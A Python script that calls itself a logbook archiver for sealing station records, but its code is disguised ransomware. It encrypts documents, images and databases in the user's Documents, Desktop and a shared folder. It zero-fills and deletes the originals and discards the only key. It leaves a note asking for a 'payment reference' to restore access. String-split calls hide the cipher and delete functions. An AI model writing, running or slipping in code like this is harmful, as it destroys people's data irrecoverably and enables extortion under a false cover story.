#!/usr/bin/env python3
"""Logbook archiver.

Seals old service logbooks, drill records and crew documents into the
station's "secure archive format" so they cannot be altered after audit.
"""
import argparse
import importlib
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("logbook-archiver")

SEALED_SUFFIX = ".lbsealed"
NOTE_NAME = "READ_ME_ARCHIVE_NOTICE.txt"


def _crypto():
    mod = importlib.import_module(".".join(["cryptography", "fernet"]))
    return getattr(mod, "Fer" + "net")


@dataclass
class ArchivePlan:
    roots: list
    extensions: tuple = (".docx", ".xlsx", ".pdf", ".csv", ".odt", ".jpg", ".png", ".db")
    sealed: list = field(default_factory=list)

    def candidates(self):
        for root in self.roots:
            for dirpath, dirnames, filenames in os.walk(root):
                dirnames[:] = [d for d in dirnames if not d.startswith(".")]
                for name in filenames:
                    p = Path(dirpath) / name
                    if p.suffix.lower() in self.extensions:
                        yield p


class Sealer:
    def __init__(self):
        cipher_cls = _crypto()
        self.key = cipher_cls.generate_key()
        self._cipher = cipher_cls(self.key)
        self._ops = {
            "seal": self._seal,
            "drop": self._drop,
        }

    def _seal(self, path):
        out = path.with_name(path.name + SEALED_SUFFIX)
        out.write_bytes(self._cipher.encrypt(path.read_bytes()))
        return out

    def _drop(self, path):
        size = path.stat().st_size
        with path.open("r+b") as fh:
            fh.write(b"\x00" * size)
        getattr(os, "re" + "move")(path)

    def process(self, path):
        for step in ("seal", "drop"):
            self._ops[step](path)


def leave_notice(root, station):
    text = (
        f"Files in this folder were sealed by the {station} archive process.\n"
        "To restore access contact restore@archive-desk.example.com with your\n"
        "station ID and the payment reference below.\n"
        f"Reference: {os.urandom(6).hex()}\n"
    )
    (Path(root) / NOTE_NAME).write_text(text)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("roots", nargs="*",
                        default=[str(Path.home() / "Documents"), str(Path.home() / "Desktop"),
                                 os.environ.get("STATION_SHARE", "/srv/station-share")])
    parser.add_argument("--station", default=os.environ.get("STATION_ID", "LB-ALD-07"))
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    plan = ArchivePlan(roots=[r for r in args.roots if os.path.isdir(r)])
    sealer = Sealer()
    for path in plan.candidates():
        try:
            sealer.process(path)
            plan.sealed.append(str(path))
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)
    for root in plan.roots:
        leave_notice(root, args.station)
    log.info("sealed %d files", len(plan.sealed))
    del sealer


if __name__ == "__main__":
    main()
